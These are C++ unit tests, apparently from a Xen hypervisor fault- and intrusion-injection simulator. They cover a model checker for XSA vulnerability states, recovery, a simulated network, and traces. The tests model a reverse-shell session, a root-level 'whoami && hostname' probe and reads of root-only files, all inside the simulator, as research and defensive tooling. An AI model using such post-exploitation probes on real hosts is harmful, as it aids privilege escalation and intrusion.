  EXPECT_EQ(fs.read("/tmp/injector_log", 0),
            "|uid=0(root) gid=0(root) groups=0(root)|@xen3");
}

TEST_F(ShellFixture, RedirectionHonoursPermissions) {
  const std::string out = run(1000, "echo x > /root/f");
  EXPECT_NE(out.find("Permission denied"), std::string::npos);
  EXPECT_FALSE(fs.exists("/root/f"));
}

TEST_F(ShellFixture, CatReadsAndFails) {
  ASSERT_TRUE(fs.write("/root/root_msg", 0,
                       "Confidential content in root folder!"));
  EXPECT_EQ(run(0, "cat /root/root_msg"),
            "Confidential content in root folder!");
  EXPECT_EQ(run(1000, "cat /root/root_msg"),
            "cat: /root/root_msg: No such file or directory");
  EXPECT_EQ(run(0, "cat /nope"), "cat: /nope: No such file or directory");
}

TEST_F(ShellFixture, AndChainsCombineOutput) {
  // The exact probe the XSA-148 experiment types into the reverse shell.
  EXPECT_EQ(run(0, "whoami && hostname"), "root\nxen3");
}

TEST_F(ShellFixture, UnknownCommand) {
  EXPECT_EQ(run(0, "frobnicate"), "sh: frobnicate: command not found");
}

TEST_F(ShellFixture, NestedSubstitution) {
  EXPECT_EQ(run(0, "echo $(echo $(whoami))"), "root");
}

}  // namespace
}  // namespace ii::guest
