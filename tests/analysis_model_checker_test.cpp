// The bounded model checker's core theorem (model_checker.hpp): under the
// 4.6 policy the depth-2 space reaches the paper's XSA erroneous states,
// while 4.8 and 4.13 admit no invariant violation over the same space.
// Plus the structural properties that make counterexamples trustworthy:
// determinism, BFS minimality, and hash dedup actually firing.
#include <gtest/gtest.h>

#include <random>

#include "analysis/model_checker.hpp"
#include "obs/span.hpp"
#include "obs/status.hpp"

namespace ii::analysis {
namespace {

ModelCheckConfig config_for(hv::XenVersion version, unsigned depth,
                            bool grants = false) {
  ModelCheckConfig config;
  config.version = version;
  config.depth = depth;
  config.include_grant_ops = grants;
  return config;
}

TEST(ModelChecker, Xen46Depth1ReachesXsa148) {
  const auto result = run_model_check(config_for(hv::kXen46, 1));
  EXPECT_TRUE(result.reached(ErroneousStateClass::Xsa148SuperpageWindow));
  EXPECT_FALSE(result.reached(ErroneousStateClass::Xsa182WritableSelfMap));
  EXPECT_FALSE(result.reached(ErroneousStateClass::Xsa212IdtClobber));
  ASSERT_FALSE(result.counterexamples.empty());
  // BFS minimality: the superpage window is one operation away from boot,
  // so its counterexample must have depth exactly 1.
  EXPECT_EQ(1u, result.counterexamples.front().depth);
}

TEST(ModelChecker, Xen46Depth2ReachesAllThreeMemoryXsas) {
  const auto result = run_model_check(config_for(hv::kXen46, 2));
  EXPECT_TRUE(result.reached(ErroneousStateClass::Xsa148SuperpageWindow));
  EXPECT_TRUE(result.reached(ErroneousStateClass::Xsa182WritableSelfMap));
  EXPECT_TRUE(result.reached(ErroneousStateClass::Xsa212IdtClobber));
  EXPECT_FALSE(result.reached(ErroneousStateClass::Other));
  EXPECT_FALSE(result.truncated);
  // Every violating state is captured while under max_counterexamples.
  EXPECT_EQ(result.violations_found, result.counterexamples.size());
}

TEST(ModelChecker, Xen48Depth2IsClean) {
  const auto result = run_model_check(config_for(hv::kXen48, 2));
  EXPECT_TRUE(result.clean()) << render_report(result);
  EXPECT_FALSE(result.truncated);
}

TEST(ModelChecker, Xen413Depth2IsClean) {
  const auto result = run_model_check(config_for(hv::kXen413, 2));
  EXPECT_TRUE(result.clean()) << render_report(result);
}

TEST(ModelChecker, GrantOpsExposeXsa387OnPre413Only) {
  const auto old46 = run_model_check(config_for(hv::kXen46, 2, true));
  EXPECT_TRUE(old46.reached(ErroneousStateClass::Xsa387StaleGrantStatus));

  // 4.8 fixed the memory XSAs but still carries the downgrade leak: with
  // grant ops in the alphabet it must find exactly that class and nothing
  // else.
  const auto old48 = run_model_check(config_for(hv::kXen48, 2, true));
  EXPECT_TRUE(old48.reached(ErroneousStateClass::Xsa387StaleGrantStatus));
  EXPECT_FALSE(old48.reached(ErroneousStateClass::Xsa148SuperpageWindow));
  EXPECT_FALSE(old48.reached(ErroneousStateClass::Xsa182WritableSelfMap));
  EXPECT_FALSE(old48.reached(ErroneousStateClass::Xsa212IdtClobber));
  EXPECT_FALSE(old48.reached(ErroneousStateClass::Other));

  const auto fixed = run_model_check(config_for(hv::kXen413, 2, true));
  EXPECT_TRUE(fixed.clean()) << render_report(fixed);
}

TEST(ModelChecker, RunsAreDeterministic) {
  const auto a = run_model_check(config_for(hv::kXen46, 2));
  const auto b = run_model_check(config_for(hv::kXen46, 2));
  EXPECT_EQ(a.states_explored, b.states_explored);
  EXPECT_EQ(a.ops_applied, b.ops_applied);
  EXPECT_EQ(a.violations_found, b.violations_found);
  ASSERT_EQ(a.counterexamples.size(), b.counterexamples.size());
  for (std::size_t i = 0; i < a.counterexamples.size(); ++i) {
    EXPECT_EQ(a.counterexamples[i].state_hash,
              b.counterexamples[i].state_hash);
    EXPECT_EQ(a.counterexamples[i].trace_string(),
              b.counterexamples[i].trace_string());
  }
}

TEST(ModelChecker, HashDedupFolds) {
  // Depth 2 revisits states (e.g. write X then write Y == write Y then
  // write X for independent slots), so dedup must fire.
  const auto result = run_model_check(config_for(hv::kXen46, 2));
  EXPECT_GT(result.states_deduped, 0u);
}

TEST(ModelChecker, CounterexamplesCarryDiffAndFindings) {
  const auto result = run_model_check(config_for(hv::kXen46, 1));
  ASSERT_FALSE(result.counterexamples.empty());
  const Counterexample& cx = result.counterexamples.front();
  EXPECT_FALSE(cx.ops.empty());
  EXPECT_FALSE(cx.ops.front().label.empty());
  EXPECT_FALSE(cx.state_diff.empty());
  EXPECT_FALSE(cx.report.findings.empty());
  EXPECT_FALSE(cx.violated.empty());
}

TEST(ModelChecker, MaxStatesTruncates) {
  auto config = config_for(hv::kXen46, 3);
  config.max_states = 20;
  const auto result = run_model_check(config);
  EXPECT_TRUE(result.truncated);
  EXPECT_LE(result.states_explored, 21u);  // may finish the expansion step
}

TEST(ModelChecker, DeltaExplorationMatchesReplayFallbackExactly) {
  // The delta-restore scheme is a pure optimization: against the
  // snapshot-root-and-replay fallback it must agree on every externally
  // visible result, down to counterexample traces, hashes and diffs.
  for (const hv::XenVersion version : {hv::kXen46, hv::kXen48}) {
    auto config = config_for(version, 2, /*grants=*/version == hv::kXen48);
    config.use_replay_fallback = false;
    const auto delta = run_model_check(config);
    config.use_replay_fallback = true;
    const auto replay = run_model_check(config);

    EXPECT_EQ(delta.states_explored, replay.states_explored);
    EXPECT_EQ(delta.ops_applied, replay.ops_applied);
    EXPECT_EQ(delta.states_deduped, replay.states_deduped);
    EXPECT_EQ(delta.failed_ops, replay.failed_ops);
    EXPECT_EQ(delta.violations_found, replay.violations_found);
    EXPECT_EQ(delta.invariant_hits, replay.invariant_hits);
    EXPECT_EQ(delta.class_hits, replay.class_hits);
    ASSERT_EQ(delta.counterexamples.size(), replay.counterexamples.size());
    for (std::size_t i = 0; i < delta.counterexamples.size(); ++i) {
      const auto& a = delta.counterexamples[i];
      const auto& b = replay.counterexamples[i];
      EXPECT_EQ(a.trace_string(), b.trace_string()) << i;
      EXPECT_EQ(a.state_hash, b.state_hash) << i;
      EXPECT_EQ(a.state_diff, b.state_diff) << i;
      EXPECT_EQ(a.violated == b.violated, true) << i;
    }
    // The schemes differ exactly where they should: the delta run restores
    // deltas, the fallback restores full snapshots.
    EXPECT_GT(delta.delta_restores, 0u);
    EXPECT_GT(replay.full_restores, 0u);
    EXPECT_LT(delta.snapshot_frames_copied, replay.snapshot_frames_copied);
  }
}

TEST(ModelChecker, RenderReportMentionsEveryClass) {
  const auto result = run_model_check(config_for(hv::kXen46, 1));
  const std::string report = render_report(result);
  for (std::size_t c = 0; c < kErroneousStateClassCount; ++c) {
    EXPECT_NE(std::string::npos,
              report.find(to_string(static_cast<ErroneousStateClass>(c))));
  }
}

// Sharded exploration is a pure parallelization: dedup admission is owned
// per hash shard and each owner reproduces the serial first-encounter
// decision, so everything except the scheduling-dependent snapshot-engine
// counters must be byte-identical at any thread count.
void expect_identical_runs(ModelCheckConfig config) {
  config.threads = 1;
  const auto serial = run_model_check(config);
  const std::string serial_report = render_report(serial);
  for (const unsigned threads : {2u, 4u, 8u}) {
    config.threads = threads;
    const auto parallel = run_model_check(config);
    EXPECT_EQ(serial_report, render_report(parallel)) << threads;
    EXPECT_EQ(serial.states_explored, parallel.states_explored) << threads;
    EXPECT_EQ(serial.ops_applied, parallel.ops_applied) << threads;
    EXPECT_EQ(serial.states_deduped, parallel.states_deduped) << threads;
    EXPECT_EQ(serial.failed_ops, parallel.failed_ops) << threads;
    EXPECT_EQ(serial.violations_found, parallel.violations_found) << threads;
    EXPECT_EQ(serial.truncated, parallel.truncated) << threads;
    EXPECT_EQ(serial.invariant_hits, parallel.invariant_hits) << threads;
    EXPECT_EQ(serial.class_hits, parallel.class_hits) << threads;
    ASSERT_EQ(serial.counterexamples.size(), parallel.counterexamples.size())
        << threads;
    for (std::size_t i = 0; i < serial.counterexamples.size(); ++i) {
      const auto& a = serial.counterexamples[i];
      const auto& b = parallel.counterexamples[i];
      EXPECT_EQ(a.trace_string(), b.trace_string()) << threads << "#" << i;
      EXPECT_EQ(a.state_hash, b.state_hash) << threads << "#" << i;
      EXPECT_EQ(a.state_diff, b.state_diff) << threads << "#" << i;
      EXPECT_TRUE(a.violated == b.violated) << threads << "#" << i;
    }
  }
}

TEST(ModelChecker, ParallelMatchesSerialAcrossVersions) {
  for (const hv::XenVersion version : {hv::kXen46, hv::kXen48, hv::kXen413}) {
    expect_identical_runs(config_for(version, 2));
  }
}

TEST(ModelChecker, ParallelMatchesSerialWithGrantOps) {
  for (const hv::XenVersion version : {hv::kXen46, hv::kXen48, hv::kXen413}) {
    expect_identical_runs(config_for(version, 2, /*grants=*/true));
  }
}

TEST(ModelChecker, ParallelMatchesSerialAtDepth3) {
  // Deeper run: multiple levels of frontier sharding with violations,
  // dedup and refused ops all live at once.
  expect_identical_runs(config_for(hv::kXen46, 3));
}

TEST(ModelChecker, ParallelTruncationMatchesSerial) {
  // max_states trips mid-level; the merge must cut the claim list at the
  // same lexicographic pair the serial BFS stopped on.
  auto config = config_for(hv::kXen46, 3);
  config.max_states = 20;
  expect_identical_runs(config);
}

TEST(ModelChecker, RandomizedConfigsMatchSerialProperty) {
  // Property sweep: random points of the configuration space (version,
  // depth <= 3, grant alphabet, truncation limits, domain sizing) must
  // yield byte-identical reports at every thread count. Fixed seed so a
  // failure reproduces.
  std::mt19937 rng{0x5eed9u};
  const hv::XenVersion versions[] = {hv::kXen46, hv::kXen48, hv::kXen413};
  for (int trial = 0; trial < 5; ++trial) {
    ModelCheckConfig config;
    config.version = versions[rng() % 3];
    config.depth = 1 + rng() % 3;
    config.include_grant_ops = (rng() % 2) == 0;
    // Depth 3 with grants is the slowest corner; cap it via max_states so
    // the sweep also exercises truncation cuts at random points.
    if (rng() % 2 == 0) config.max_states = 25 + rng() % 200;
    config.domain_pages = 8 + 8 * (rng() % 2);
    SCOPED_TRACE("trial " + std::to_string(trial) + " version " +
                 std::string(config.version.to_string()) + " depth " +
                 std::to_string(config.depth));
    expect_identical_runs(config);
  }
}

TEST(ModelChecker, SpillingPreservesTheReportExactly) {
  // Force the frontier through the spill file with a budget far below the
  // depth-2/3 frontier size: every externally visible result must match
  // the unbounded run, and only ops_executed may grow (replay reloads).
  auto config = config_for(hv::kXen46, 3);
  config.threads = 2;
  const auto unbounded = run_model_check(config);
  ASSERT_FALSE(unbounded.truncated);
  EXPECT_EQ(unbounded.frontier_spilled_items, 0u);
  EXPECT_EQ(unbounded.ops_executed, unbounded.ops_applied);

  config.max_frontier_bytes = 16 * 1024;
  config.spill_dir = testing::TempDir();
  const auto spilled = run_model_check(config);
  EXPECT_GT(spilled.frontier_spilled_items, 0u);
  EXPECT_GT(spilled.frontier_spill_reloads, 0u);
  EXPECT_GT(spilled.frontier_spill_bytes, 0u);
  EXPECT_EQ(render_report(unbounded), render_report(spilled));
  EXPECT_EQ(unbounded.states_explored, spilled.states_explored);
  EXPECT_EQ(unbounded.ops_applied, spilled.ops_applied);
  EXPECT_EQ(unbounded.shard_occupancy, spilled.shard_occupancy);
  EXPECT_GE(spilled.ops_executed, spilled.ops_applied);

  // Acceptance bound: at a budget that keeps a useful fraction of the
  // frontier resident (the intended operating point, not the pathological
  // everything-spills one above), replay reloads stay within 5% of the
  // real enumeration work.
  config.max_frontier_bytes = 256 * 1024;
  const auto bounded = run_model_check(config);
  EXPECT_GT(bounded.frontier_spilled_items, 0u);
  EXPECT_EQ(render_report(unbounded), render_report(bounded));
  EXPECT_GE(bounded.ops_executed, bounded.ops_applied);
  EXPECT_LE(bounded.ops_executed, bounded.ops_applied * 105 / 100);
}

TEST(ModelChecker, BudgetWithoutSpillDirOnlyChunks) {
  // A frontier budget with no spill_dir must never spill: the budget then
  // only drives chunked expansion, and the report still matches.
  auto config = config_for(hv::kXen46, 2);
  const auto baseline = run_model_check(config);
  config.max_frontier_bytes = 16 * 1024;
  config.threads = 4;
  const auto chunked = run_model_check(config);
  EXPECT_EQ(chunked.frontier_spilled_items, 0u);
  EXPECT_EQ(chunked.frontier_spill_bytes, 0u);
  EXPECT_EQ(render_report(baseline), render_report(chunked));
  EXPECT_GT(chunked.peak_frontier_bytes, 0u);
}

TEST(ModelChecker, SerialSpillingAlsoPreservesTheReport) {
  // The spill path is engine-independent: the serial driver chunks too,
  // and a single-worker spilling run must match its resident twin.
  auto config = config_for(hv::kXen48, 2, /*grants=*/true);
  config.threads = 1;
  const auto resident = run_model_check(config);
  config.max_frontier_bytes = 8 * 1024;
  config.spill_dir = testing::TempDir();
  const auto spilled = run_model_check(config);
  EXPECT_EQ(render_report(resident), render_report(spilled));
  EXPECT_GT(spilled.frontier_spilled_items, 0u);
}

TEST(ModelChecker, TruncatedCleanRunFailsTheExpectation) {
  // A clean-but-truncated result must not pass an "expect clean" gate:
  // the unexplored remainder could hold a violation.
  auto config = config_for(hv::kXen413, 3);
  config.max_states = 10;
  const auto truncated = run_model_check(config);
  ASSERT_TRUE(truncated.truncated);
  ASSERT_TRUE(truncated.clean());
  EXPECT_FALSE(evaluate_expectation(truncated, "clean").pass);
  EXPECT_NE(std::string::npos,
            evaluate_expectation(truncated, "clean").message.find("TRUNCATED"));
  EXPECT_TRUE(
      evaluate_expectation(truncated, "clean", /*allow_truncated=*/true).pass);

  // Full-coverage runs keep their verdicts on both sides of the gate.
  const auto clean = run_model_check(config_for(hv::kXen413, 2));
  EXPECT_TRUE(evaluate_expectation(clean, "clean").pass);
  const auto vulnerable = run_model_check(config_for(hv::kXen46, 2));
  EXPECT_FALSE(evaluate_expectation(vulnerable, "clean").pass);
  EXPECT_TRUE(evaluate_expectation(vulnerable, "vulnerable").pass);
}

TEST(ModelChecker, EngineStatsAreSeparateFromTheReport) {
  auto config = config_for(hv::kXen46, 2);
  config.threads = 2;
  const auto result = run_model_check(config);
  EXPECT_EQ(2u, result.threads_used);
  // Work was done and summed from the per-worker machines: the sharded
  // engine runs on the CoW forest, so captures and rehashes must show up.
  EXPECT_GT(result.cow_captures, 0u);
  EXPECT_GT(result.hash_frames_rehashed, 0u);
  EXPECT_NE(std::string::npos,
            render_engine_stats(result).find("snapshot engine"));
  // ...but the report proper never mentions it (it is the one output that
  // would differ between thread counts).
  EXPECT_EQ(std::string::npos, render_report(result).find("snapshot engine"));
}

TEST(ModelChecker, DeterministicProfileIsIdenticalAcrossThreadCounts) {
  // The dual-clock contract: the deterministic render (logical counts only)
  // must be byte-identical at any --threads; scheduling-dependent phases
  // appear only in the wall render, flagged with '*'.
  std::string baseline;
  for (const unsigned threads : {1u, 2u, 4u}) {
    auto config = config_for(hv::kXen46, 2, /*grants=*/true);
    config.threads = threads;
    obs::SpanProfiler prof;
    config.profiler = &prof;
    (void)run_model_check(config);
    const std::string det = render_profile(prof, /*include_wall=*/false);
    if (baseline.empty()) {
      baseline = det;
      EXPECT_NE(det.find("check"), std::string::npos);
      EXPECT_NE(det.find("expand"), std::string::npos);
      EXPECT_NE(det.find("audit"), std::string::npos);
    } else {
      EXPECT_EQ(baseline, det) << "threads=" << threads;
    }
    if (threads > 1) {
      const std::string wall = render_profile(prof, /*include_wall=*/true);
      EXPECT_NE(wall.find("produce *"), std::string::npos);
      EXPECT_NE(wall.find("admit *"), std::string::npos);
      EXPECT_NE(wall.find("settle *"), std::string::npos);
      // None of those may leak into the cmp-gated deterministic render.
      EXPECT_EQ(det.find("produce"), std::string::npos);
    }
  }
}

TEST(ModelChecker, StatusBoardTracksCheckerProgress) {
  auto config = config_for(hv::kXen46, 2);
  obs::StatusBoard board;
  config.status = &board;
  const auto result = run_model_check(config);
  const obs::StatusSnapshot s = board.snapshot();
  EXPECT_FALSE(s.checker_active);  // checker_end() ran
  EXPECT_EQ(s.checker_states, result.states_explored);
  EXPECT_EQ(s.checker_violations, result.violations_found);
  EXPECT_EQ(s.checker_depth, 2u);
}

}  // namespace
}  // namespace ii::analysis
