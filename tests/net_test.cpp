// Unit tests for the network simulator.
#include <gtest/gtest.h>

#include "net/network.hpp"

namespace ii::net {
namespace {

TEST(Network, ConnectRequiresListener) {
  Network net;
  net.add_host("a");
  net.add_host("b");
  EXPECT_EQ(net.connect("a", "b", 80), nullptr);  // refused
  net.find_host("b")->listen(80);
  EXPECT_NE(net.connect("a", "b", 80), nullptr);
}

TEST(Network, ConnectToUnknownHostFails) {
  Network net;
  net.add_host("a");
  EXPECT_EQ(net.connect("a", "ghost", 80), nullptr);
}

TEST(Network, AddHostIsIdempotent) {
  Network net;
  Host& first = net.add_host("a");
  Host& again = net.add_host("a");
  EXPECT_EQ(&first, &again);
}

TEST(Network, AcceptedConnectionsArriveInOrder) {
  Network net;
  net.add_host("server").listen(22);
  net.add_host("c1");
  net.add_host("c2");
  auto conn1 = net.connect("c1", "server", 22);
  auto conn2 = net.connect("c2", "server", 22);
  const auto accepted = net.find_host("server")->accepted(22);
  ASSERT_EQ(accepted.size(), 2u);
  EXPECT_EQ(accepted[0], conn1);
  EXPECT_EQ(accepted[1], conn2);
  EXPECT_EQ(accepted[0]->client_host(), "c1");
  EXPECT_EQ(accepted[0]->server_host(), "server");
  EXPECT_EQ(accepted[0]->port(), 22);
}

TEST(Connection, LinesFlowBothWaysFifo) {
  Connection conn{"c", "s", 1};
  conn.send(Endpoint::Client, "one");
  conn.send(Endpoint::Client, "two");
  conn.send(Endpoint::Server, "reply");
  EXPECT_EQ(conn.pending(Endpoint::Server), 2u);
  EXPECT_EQ(conn.poll(Endpoint::Server), "one");
  EXPECT_EQ(conn.poll(Endpoint::Server), "two");
  EXPECT_FALSE(conn.poll(Endpoint::Server).has_value());
  EXPECT_EQ(conn.poll(Endpoint::Client), "reply");
}

TEST(Connection, CloseDropsSends) {
  Connection conn{"c", "s", 1};
  conn.close();
  EXPECT_TRUE(conn.closed());
  conn.send(Endpoint::Client, "late");
  EXPECT_EQ(conn.pending(Endpoint::Server), 0u);
}

TEST(ShellSession, PumpExecutesPendingCommands) {
  auto conn = std::make_shared<Connection>("attacker", "victim", 1234);
  ShellSession shell{conn, 0, [](const std::string& cmd, int uid) {
                       return cmd + "/uid=" + std::to_string(uid);
                     }};
  conn->send(Endpoint::Client, "whoami");
  conn->send(Endpoint::Client, "id");
  EXPECT_EQ(shell.pump(), 2u);
  EXPECT_EQ(conn->poll(Endpoint::Client), "whoami/uid=0");
  EXPECT_EQ(conn->poll(Endpoint::Client), "id/uid=0");
  EXPECT_EQ(shell.pump(), 0u);  // nothing pending
}

TEST(ShellSession, UidIsBoundAtCreation) {
  auto conn = std::make_shared<Connection>("a", "v", 1);
  ShellSession shell{conn, 1000, [](const std::string&, int uid) {
                       return std::to_string(uid);
                     }};
  conn->send(Endpoint::Client, "x");
  shell.pump();
  EXPECT_EQ(conn->poll(Endpoint::Client), "1000");
}

}  // namespace
}  // namespace ii::net
