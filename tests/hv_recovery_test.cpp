// ReHype-style recovery: injected erroneous states are repaired in place,
// guest memory survives, and the invariant auditor tells the truth on both
// sides of the micro-reboot.
#include <gtest/gtest.h>

#include <memory>

#include "guest/platform.hpp"
#include "hv/audit.hpp"
#include "hv/recovery.hpp"
#include "obs/trace.hpp"
#include "xsa/usecases.hpp"

namespace ii {
namespace {

guest::PlatformConfig test_config(hv::XenVersion version) {
  guest::PlatformConfig pc{};
  pc.version = version;
  pc.machine_frames = 16384;
  pc.dom0_pages = 256;
  pc.guest_pages = 128;
  pc.injector_enabled = true;
  return pc;
}

/// A recognizable marker in a guest data page, to prove recovery preserves
/// guest memory (the whole point of recovering instead of rebooting).
constexpr std::uint64_t kMarker = 0x5EED0FDEADC0DEULL;

sim::Vaddr marker_va(guest::GuestKernel& g) { return g.pfn_va(sim::Pfn{7}); }

std::unique_ptr<core::UseCase> find_case(const std::string& name) {
  auto cases = xsa::make_paper_use_cases();
  for (auto& extension : xsa::make_extension_use_cases()) {
    cases.push_back(std::move(extension));
  }
  for (auto& use_case : cases) {
    if (use_case->name() == name) return std::move(use_case);
  }
  return nullptr;
}

TEST(InvariantAuditor, CleanPlatformIsClean) {
  guest::VirtualPlatform p{test_config(hv::kXen48)};
  const hv::InvariantReport report = hv::InvariantAuditor{p.hv()}.audit();
  EXPECT_TRUE(report.clean()) << report.findings.size() << " findings";
}

TEST(Recovery, CleanPlatformRecoversAndPreservesGuestMemory) {
  guest::VirtualPlatform p{test_config(hv::kXen48)};
  ASSERT_TRUE(p.guest(0).write_u64(marker_va(p.guest(0)), kMarker));

  const hv::RecoveryReport report = p.hv().recover();
  EXPECT_TRUE(report.pre.clean());
  EXPECT_TRUE(report.succeeded());
  EXPECT_TRUE(report.restored().empty());
  EXPECT_EQ(report.unrecovered_domains.size(), 0u);

  EXPECT_EQ(p.guest(0).read_u64(marker_va(p.guest(0))), kMarker);
  // The real frame-table audit agrees with the invariant auditor.
  EXPECT_TRUE(hv::audit_system(p.hv()).clean());
}

class RecoveryVersions : public ::testing::TestWithParam<hv::XenVersion> {};

// The acceptance experiment: inject the XSA-212 erroneous state (the priv
// variant corrupts the shared Xen L3 + IDT), recover, and pass the full
// invariant audit — with guest memory intact and the erroneous state gone.
TEST_P(RecoveryVersions, InjectedXsa212StateIsRepaired) {
  auto use_case = find_case("XSA-212-priv");
  ASSERT_NE(use_case, nullptr);

  guest::VirtualPlatform p{test_config(GetParam())};
  ASSERT_TRUE(p.guest(0).write_u64(marker_va(p.guest(0)), kMarker));

  (void)use_case->run_injection(p);
  ASSERT_TRUE(use_case->erroneous_state_present(p));
  const hv::InvariantReport pre = hv::InvariantAuditor{p.hv()}.audit();
  ASSERT_FALSE(pre.clean());

  const hv::RecoveryReport report = p.hv().recover();
  EXPECT_FALSE(report.pre.clean());
  EXPECT_TRUE(report.succeeded());
  EXPECT_FALSE(report.restored().empty());

  EXPECT_FALSE(use_case->erroneous_state_present(p));
  EXPECT_EQ(p.guest(0).read_u64(marker_va(p.guest(0))), kMarker);
  EXPECT_TRUE(hv::audit_system(p.hv()).clean());
  EXPECT_TRUE(hv::InvariantAuditor{p.hv()}.audit().clean());

  // Post-recovery type refs are balanced: tearing the attacker down must
  // not trip the frame table.
  EXPECT_EQ(p.destroy_guest(0), hv::kOk);
}

TEST_P(RecoveryVersions, PanicIsClearedAndIdtRestored) {
  auto use_case = find_case("XSA-212-crash");
  ASSERT_NE(use_case, nullptr);

  guest::VirtualPlatform p{test_config(GetParam())};
  (void)use_case->run_injection(p);
  ASSERT_TRUE(p.hv().crashed());

  const hv::RecoveryReport report = p.hv().recover();
  EXPECT_TRUE(report.pre.violated(hv::Invariant::Liveness));
  EXPECT_TRUE(report.succeeded());
  EXPECT_FALSE(p.hv().crashed());
  EXPECT_GE(report.idt_gates_restored, 1u);
}

TEST_P(RecoveryVersions, WritablePageTableWindowIsScrubbed) {
  auto use_case = find_case("XSA-182-test");
  ASSERT_NE(use_case, nullptr);

  guest::VirtualPlatform p{test_config(GetParam())};
  (void)use_case->run_injection(p);
  const hv::InvariantReport pre = hv::InvariantAuditor{p.hv()}.audit();
  ASSERT_TRUE(pre.violated(hv::Invariant::FrameTypeSafety));

  const hv::RecoveryReport report = p.hv().recover();
  EXPECT_TRUE(report.succeeded());
  EXPECT_FALSE(use_case->erroneous_state_present(p));
  // The self map sits in a reserved L4 slot, which revalidation itself
  // rewrites; only the 4.8 PoC's probe write leaves a PTE for the scrubber.
  if (GetParam().minor == 8) {
    EXPECT_GE(report.ptes_scrubbed, 1u);
  }
  EXPECT_TRUE(hv::audit_system(p.hv()).clean());
}

TEST_P(RecoveryVersions, StaleGrantMappingIsReleased) {
  auto use_case = find_case("XSA-387-keep");
  ASSERT_NE(use_case, nullptr);

  guest::VirtualPlatform p{test_config(GetParam())};
  (void)use_case->run_injection(p);
  const hv::InvariantReport pre = hv::InvariantAuditor{p.hv()}.audit();
  ASSERT_TRUE(pre.violated(hv::Invariant::GrantLifecycle));

  const hv::RecoveryReport report = p.hv().recover();
  EXPECT_TRUE(report.succeeded());
  EXPECT_TRUE(hv::InvariantAuditor{p.hv()}.audit().clean());
}

INSTANTIATE_TEST_SUITE_P(Versions, RecoveryVersions,
                         ::testing::Values(hv::kXen48, hv::kXen413),
                         [](const auto& info) {
                           return info.param.major == 4 &&
                                          info.param.minor == 8
                                      ? "Xen48"
                                      : "Xen413";
                         });

TEST(Recovery, WedgedCpuIsRevived) {
  auto use_case = find_case("EVTCHN-storm");
  ASSERT_NE(use_case, nullptr);

  // 4.8 predates the delivery-loop hardening: the storm wedges the CPU.
  guest::VirtualPlatform p{test_config(hv::kXen48)};
  (void)use_case->run_injection(p);
  ASSERT_TRUE(p.hv().cpu_hung());

  const hv::RecoveryReport report = p.hv().recover();
  EXPECT_TRUE(report.pre.violated(hv::Invariant::Liveness));
  EXPECT_FALSE(p.hv().cpu_hung());
  EXPECT_TRUE(report.succeeded());
}

TEST(Recovery, EmitsTraceEventsAroundThePass) {
  auto use_case = find_case("XSA-212-priv");
  ASSERT_NE(use_case, nullptr);

  obs::TraceSink sink{8192};
  auto pc = test_config(hv::kXen48);
  pc.trace_sink = &sink;
  guest::VirtualPlatform p{pc};
  (void)use_case->run_injection(p);

  const std::uint64_t violations_before =
      sink.count(obs::TraceCategory::InvariantViolation);
  const hv::RecoveryReport report = p.hv().recover();
  ASSERT_TRUE(report.succeeded());

  EXPECT_EQ(sink.count(obs::TraceCategory::RecoverEnter), 1u);
  EXPECT_EQ(sink.count(obs::TraceCategory::RecoverExit), 1u);
  // The pre-audit emits one InvariantViolation per finding; the clean
  // post-audit emits none.
  EXPECT_EQ(sink.count(obs::TraceCategory::InvariantViolation),
            violations_before + report.pre.findings.size());
}

TEST(Recovery, InvariantNamesAreStable) {
  EXPECT_EQ(hv::to_string(hv::Invariant::Liveness), "liveness");
  EXPECT_EQ(hv::to_string(hv::Invariant::FrameTypeSafety),
            "frame-type-safety");
  EXPECT_EQ(hv::to_string(hv::Invariant::GrantLifecycle), "grant-lifecycle");
  EXPECT_EQ(hv::to_string(hv::Invariant::RefcountConsistency),
            "refcount-consistency");
}

}  // namespace
}  // namespace ii
