// Trace ring and sink semantics: overflow/wrap, category filtering,
// sequence numbering, per-hypercall counters.
#include <gtest/gtest.h>

#include "obs/trace.hpp"

namespace ii::obs {
namespace {

TEST(TraceRing, OverflowKeepsNewestAndCountsLost) {
  TraceRing ring{4};
  for (std::uint64_t i = 0; i < 6; ++i) {
    ring.push(TraceEvent{i, TraceCategory::HypercallEnter, 1,
                         static_cast<std::uint32_t>(i), 0, 0});
  }
  EXPECT_EQ(ring.capacity(), 4u);
  EXPECT_EQ(ring.size(), 4u);
  EXPECT_EQ(ring.recorded(), 6u);
  EXPECT_EQ(ring.overwritten(), 2u);

  const auto events = ring.snapshot();
  ASSERT_EQ(events.size(), 4u);
  // Oldest-first; the two oldest (seq 0, 1) were overwritten.
  for (std::size_t i = 0; i < events.size(); ++i) {
    EXPECT_EQ(events[i].seq, i + 2);
    EXPECT_EQ(events[i].code, i + 2);
  }
}

TEST(TraceRing, PartiallyFilledSnapshotsInOrder) {
  TraceRing ring{8};
  ring.push(TraceEvent{0, TraceCategory::Panic});
  ring.push(TraceEvent{1, TraceCategory::CpuHang});
  EXPECT_EQ(ring.size(), 2u);
  EXPECT_EQ(ring.overwritten(), 0u);
  const auto events = ring.snapshot();
  ASSERT_EQ(events.size(), 2u);
  EXPECT_EQ(events[0].category, TraceCategory::Panic);
  EXPECT_EQ(events[1].category, TraceCategory::CpuHang);
}

TEST(TraceRing, ClearResets) {
  TraceRing ring{2};
  ring.push(TraceEvent{});
  ring.push(TraceEvent{});
  ring.push(TraceEvent{});
  ring.clear();
  EXPECT_EQ(ring.size(), 0u);
  EXPECT_EQ(ring.recorded(), 0u);
  EXPECT_TRUE(ring.snapshot().empty());
}

TEST(TraceRing, ZeroCapacityClampsToOne) {
  TraceRing ring{0};
  EXPECT_EQ(ring.capacity(), 1u);
  ring.push(TraceEvent{7, TraceCategory::Injection});
  EXPECT_EQ(ring.snapshot().at(0).seq, 7u);
}

TEST(TraceSink, CategoryMaskFiltersRingButNotCounters) {
  TraceSink sink{16, category_bit(TraceCategory::HypercallEnter)};
  sink.emit(TraceCategory::HypercallEnter, 1, /*code=*/12);
  sink.emit(TraceCategory::HypercallExit, 1, /*code=*/12, /*rc=*/0);
  sink.emit(TraceCategory::GrantOp, 1, /*code=*/3);

  // Aggregate counters always advance...
  EXPECT_EQ(sink.emitted(), 3u);
  EXPECT_EQ(sink.count(TraceCategory::HypercallEnter), 1u);
  EXPECT_EQ(sink.count(TraceCategory::HypercallExit), 1u);
  EXPECT_EQ(sink.count(TraceCategory::GrantOp), 1u);
  // ...but only masked-in categories reach the ring.
  const auto events = sink.ring().snapshot();
  ASSERT_EQ(events.size(), 1u);
